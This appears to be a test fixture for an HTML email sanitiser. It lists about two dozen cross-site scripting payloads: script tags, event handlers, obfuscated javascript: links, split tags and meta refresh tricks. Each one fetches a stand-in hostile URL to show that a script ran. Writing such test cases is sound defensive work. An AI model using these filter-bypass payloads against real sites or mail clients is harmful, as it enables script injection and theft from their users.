/** Getting a script to run. */
import { hostileUrl as at, hostile } from './kit.ts'

const run = `fetch('${at}/ran')`

export const scriptMails = [
  hostile('script-element', `<p>a</p><script>${run}</script><p>b</p>`),
  hostile('script-remote', `<script src="${at}/x.js"></script>`),
  hostile('script-unclosed', `<script>${run}`),
  hostile('script-odd-case', `<ScRiPt >${run}</sCrIpT >`),
  hostile('script-split-tag', `<scr<script>ipt>${run}</scr</script>ipt>`),
  hostile('script-slash', `<script/x src=${at}/x.js></script>`),
  hostile('script-nul', `<scr\0ipt>${run}</scr\0ipt>`),
  hostile('handler-onerror', `<img src=x onerror="${run}">`),
  hostile('handler-onload', `<body onload="${run}"><p onmouseover='${run}'>x</p></body>`),
  hostile('handler-no-space', `<img src="x"onerror="${run}">`),
  hostile('handler-slashes', `<img/src=x/onerror=${run}>`),
  hostile('handler-newlines', `<img\nsrc=x\nonerror\n=\n"${run}">`),
  hostile(
    'handler-animation',
    `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="${run}">x</p>`,
  ),
  hostile('handler-details', `<details open ontoggle="${run}"><summary>x</summary></details>`),
  hostile('handler-focus', `<input autofocus onfocus="${run}"><a tabindex=0 autofocus onfocus="${run}">x</a>`),
  hostile('javascript-link', `<a href="javascript:${run}">x</a>`),
  hostile('javascript-link-spaces', `<a href=" \tja\nva\tscript\n:${run}">x</a>`),
  hostile('javascript-link-entities', `<a href="&#106;&#x61;vascript&colon;${run}">x</a>`),
  hostile('vbscript-link', `<a href="vbscript:msgbox(1)">x</a><a href="livescript:x">y</a>`),
  hostile('data-link', `<a href="data:text/html,<script>${run}</script>">x</a>`),
  hostile(
    'javascript-image',
    `<img src="javascript:${run}"><img lowsrc="javascript:${run}" dynsrc="javascript:${run}">`,
  ),
  hostile('meta-refresh', `<meta http-equiv="refresh" content="0;url=${at}/refresh">`),
  hostile('meta-refresh-script', `<meta http-equiv=refresh content="0;url=javascript:${run}">`),
  hostile('meta-policy', `<meta http-equiv="Content-Security-Policy" content="script-src *"><script>${run}</script>`),
]
